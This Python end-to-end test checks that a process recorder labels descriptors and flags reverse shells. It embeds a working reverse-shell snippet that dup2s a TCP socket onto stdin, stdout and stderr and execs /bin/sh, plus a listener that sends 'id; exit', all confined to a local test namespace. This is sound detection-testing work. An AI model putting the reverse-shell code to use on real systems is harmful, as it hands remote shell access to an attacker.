#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""
End-to-end test of EXEC's standard descriptors (issue 13, reverse shells;
docs/FORMAT.md, "Standard descriptors at exec"): while the recorder runs,

- a reverse shell: a process connects to a listener in a network namespace
  (TEST-NET-2, 198.51.100.128/29; IPv6 2001:db8:13::/64), puts the socket on
  its stdin, stdout and stderr and execs /bin/sh; the listener sends
  `id; exit` and reads the answer (bounded). Its EXEC must say
  `stdin=tcp stdout=tcp stderr=tcp stdio_proto=tcp stdio_peer=PEER:PORT
  stdio_local=HOST:PORT`, and the flow's NET record the same addresses;
- the same over IPv6, and a UDP socket on stdin only;
- stdin a Unix socket pair: `stdin=unix`, no stdio_*;
- pipes, /dev/null, a file, and a Unix socket on stdout alone (a service's
  journal): no keys at all;
- the same kinds of processes already running when the recorder starts: their
  EXISTING records have the same keys, read from /proc, and the reverse shell
  has its evidence kept (EVIDENCE rule=reverse-shell trigger=existing).

No traffic leaves the machine. Needs root. Ends with "N passed, N failed".
Usage: tests/e2e/test_revshell.py [NAME-SUBSTRING]
"""
import os
import socket
import subprocess
import sys
import tempfile
import shutil

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
import run as e2e  # noqa: E402

check_eq, one = harness.check_eq, harness.one
HOST4, PEER4 = "198.51.100.129", "198.51.100.130"
HOST6, PEER6 = "2001:db8:13::1", "2001:db8:13::2"
PORT = 4444
NET = harness.Netns("rsh", HOST4, [PEER4], 29, HOST6, [PEER6], 64)
PYTHON = os.path.realpath(sys.executable)

# the attacker's end: accepts one connection, sends a command, prints what
# came back and the client's address; bounded
LISTENER = r"""
import socket, sys, time
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(1); s.settimeout(20)
print("listening", flush=True)
c, addr = s.accept()
c.settimeout(10)
c.sendall(b"id; exit\n")
out, end = b"", time.time() + 10
while time.time() < end:
    b = c.recv(4096)
    if not b:
        break
    out += b
print("peer=%s port=%d answer=%s" % (addr[0], addr[1], out.decode(errors="replace").strip()),
      flush=True)
"""

# the victim's end: connect, the socket on 0, 1, 2, exec a shell
REVSHELL = r"""
import os, socket, sys
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_STREAM)
s.connect((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh"])
"""


def kv(detail):
    return dict(x.split("=", 1) for x in detail.split()) if detail else {}


def reverse_shell(peer, port):
    """Runs the listener in the namespace and the shell here; returns
    (the shell's pid, the listener's line as a dict)."""
    lst = subprocess.Popen(NET.exec + [PYTHON, "-c", LISTENER, peer, str(port)],
                           stdout=subprocess.PIPE, text=True)
    try:
        if lst.stdout.readline().strip() != "listening":
            raise AssertionError("the listener did not start")
        sh = subprocess.Popen([PYTHON, "-c", REVSHELL, peer, str(port)])
        sh.wait(timeout=30)
        line = lst.stdout.readline().strip()
        lst.wait(timeout=30)
    finally:
        if lst.poll() is None:
            lst.kill()
            lst.wait()
    got = kv(line)
    if "uid=" not in line:
        raise AssertionError("the shell did not answer: %r" % line)
    return sh.pid, got


def run_plain(stdin=None, stdout=None, stderr=None):
    """/bin/sh -c : with the given descriptors; its pid."""
    p = subprocess.Popen(["/bin/sh", "-c", ":"], stdin=stdin, stdout=stdout, stderr=stderr)
    p.communicate(timeout=10)
    return p.pid


def exec_of(log, pid):
    return one([r for r in log.find(event="EXEC", pid=pid) if r["exe"] == "/usr/bin/dash" or
                r["exe"].endswith("/sh") or r["exe"].endswith("bash")], "EXEC of pid %d" % pid)


def test_exec_stdio_keys():
    log_dir = tempfile.mkdtemp(prefix="onm-revshell-")
    NET.up()
    try:
        rec = e2e.Recorder(log_dir)
        try:
            v4_pid, v4 = reverse_shell(PEER4, PORT)
            v6_pid, v6 = reverse_shell(PEER6, PORT + 1)
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.connect((PEER4, 5353))
            udp_pid = run_plain(stdin=u.fileno(), stdout=subprocess.DEVNULL)
            a, b = socket.socketpair()
            unix_pid = run_plain(stdin=a.fileno(), stdout=subprocess.DEVNULL)
            journal_pid = run_plain(stdin=subprocess.DEVNULL, stdout=a.fileno(),
                                    stderr=a.fileno())
            pipe_pid = run_plain(stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE)
            with tempfile.TemporaryFile() as f:
                plain_pid = run_plain(stdin=subprocess.DEVNULL, stdout=f, stderr=f)
            for s in (u, a, b):
                s.close()
        finally:
            log = rec.stop()

        # the reverse shells: all three the TCP socket, its addresses, its flow
        for pid, peer, port, host, got in ((v4_pid, PEER4, PORT, HOST4, v4),
                                           (v6_pid, PEER6, PORT + 1, HOST6, v6)):
            r = exec_of(log, pid)
            d = kv(r["detail"])
            bracket = (lambda a: "[%s]" % a) if ":" in peer else (lambda a: a)
            want = {"stdin": "tcp", "stdout": "tcp", "stderr": "tcp", "stdio_proto": "tcp",
                    "stdio_peer": "%s:%d" % (bracket(peer), port),
                    "stdio_local": "%s:%s" % (bracket(host), got["port"])}
            for k, v in want.items():
                check_eq("pid %d detail %s" % (pid, k), d.get(k), v)
            check_eq("%s: the listener saw the shell's address" % peer, got["peer"].split(
                "%")[0].replace("::ffff:", ""), host)
            net = one([n for n in log.find(event="NET", guid=r["guid"], proto="tcp",
                                           direction="out", result="established")
                       if n["dst_ip"] == peer], "the reverse shell's flow (%s)" % peer)
            check_eq("flow's source port", net["src_port"], got["port"])
            check_eq("flow's source", net["src_ip"], host)

        d = kv(exec_of(log, udp_pid)["detail"])
        check_eq("udp stdin", (d.get("stdin"), d.get("stdout"), d.get("stdio_proto"),
                               d.get("stdio_peer")),
                 ("udp", "chardev", "udp", "%s:5353" % PEER4))
        d = kv(exec_of(log, unix_pid)["detail"])
        check_eq("unix stdin", (d.get("stdin"), d.get("stdout"), d.get("stdio_proto")),
                 ("unix", "chardev", None))
        for what, pid in (("journal-like stdout", journal_pid), ("pipes", pipe_pid),
                          ("/dev/null and a file", plain_pid)):
            d = kv(exec_of(log, pid)["detail"])
            keys = sorted(k for k in d if k.startswith("std"))
            check_eq("%s: no stdio keys" % what, keys, [])
    finally:
        NET.down()
        shutil.rmtree(log_dir, ignore_errors=True)


# the attacker's end that holds the connection open: accepts one, says so,
# then waits (bounded) until it is killed
LISTENER_HOLD = r"""
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(1); s.settimeout(20)
print("listening", flush=True)
c, addr = s.accept()
print("peer=%s port=%d" % (addr[0], addr[1]), flush=True)
time.sleep(30)
"""

# the victim's end, waiting: the socket on 0, 1, 2, a shell that reads a line
REVSHELL_WAIT = REVSHELL.replace('os.execv("/bin/sh", ["sh"])',
                                 'os.execv("/bin/sh", ["sh", "-c", "read line"])')


def test_existing_stdio_keys():
    log_dir = tempfile.mkdtemp(prefix="onm-revshell-")
    NET.up()
    procs = []
    try:
        lst = subprocess.Popen(NET.exec + [PYTHON, "-c", LISTENER_HOLD, PEER4, str(PORT + 2)],
                               stdout=subprocess.PIPE, text=True)
        procs.append(lst)
        if lst.stdout.readline().strip() != "listening":
            raise AssertionError("the listener did not start")
        shell = subprocess.Popen([PYTHON, "-c", REVSHELL_WAIT, PEER4, str(PORT + 2)])
        procs.append(shell)
        got = kv(lst.stdout.readline().strip())
        if "port" not in got:
            raise AssertionError("the shell did not connect")

        def sleeper(**kw):
            p = subprocess.Popen(["/bin/sh", "-c", "sleep 30"], **kw)
            procs.append(p)
            return p.pid
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.connect((PEER4, 5353))
        udp_pid = sleeper(stdin=u.fileno(), stdout=subprocess.DEVNULL)
        a, b = socket.socketpair()
        unix_pid = sleeper(stdin=a.fileno(), stdout=subprocess.DEVNULL)
        journal_pid = sleeper(stdin=subprocess.DEVNULL, stdout=a.fileno(), stderr=a.fileno())
        pipe_pid = sleeper(stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for x in (u, a, b):
            x.close()
        rec = e2e.Recorder(log_dir)
        log = rec.stop()

        def existing(pid):
            return one(log.find(event="EXISTING", pid=pid), "EXISTING of pid %d" % pid)
        r = existing(shell.pid)
        d = kv(r["detail"])
        want = {"stdin": "tcp", "stdout": "tcp", "stderr": "tcp", "stdio_proto": "tcp",
                "stdio_peer": "%s:%d" % (PEER4, PORT + 2),
                "stdio_local": "%s:%s" % (HOST4, got["port"])}
        for k, v in want.items():
            check_eq("EXISTING reverse shell: detail %s" % k, d.get(k), v)
        ev = one(log.find(event="EVIDENCE", guid=r["guid"]), "the reverse shell's evidence")
        dv = kv(ev["detail"])
        check_eq("evidence rule and trigger", (dv.get("rule"), dv.get("trigger")),
                 ("reverse-shell", "existing"))
        d = kv(existing(udp_pid)["detail"])
        check_eq("EXISTING udp stdin", (d.get("stdin"), d.get("stdout"), d.get("stdio_proto"),
                                        d.get("stdio_peer")),
                 ("udp", "chardev", "udp", "%s:5353" % PEER4))
        d = kv(existing(unix_pid)["detail"])
        check_eq("EXISTING unix stdin", (d.get("stdin"), d.get("stdout"), d.get("stdio_proto")),
                 ("unix", "chardev", None))
        for what, pid in (("journal-like stdout", journal_pid), ("pipes", pipe_pid)):
            d = kv(existing(pid)["detail"])
            keys = sorted(k for k in d if k.startswith("std"))
            check_eq("EXISTING %s: no stdio keys" % what, keys, [])
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()
        NET.down()
        shutil.rmtree(log_dir, ignore_errors=True)


TESTS = [test_exec_stdio_keys, test_existing_stdio_keys]


def main():
    only = sys.argv[1] if len(sys.argv) > 1 else ""
    rc = harness.needs_root("e2e-revshell", "reverse shell tests")
    if rc is not None:
        return rc
    if not os.access(harness.ONMITSU, os.X_OK):
        print("FAIL e2e-revshell: %s is missing; run make setup all first" % harness.ONMITSU)
        print("0 passed, 1 failed")
        return 1
    results = [harness.run_test(t.__name__, t) for t in TESTS if only in t.__name__]
    return harness.report("e2e-revshell", results)


if __name__ == "__main__":
    sys.exit(main())
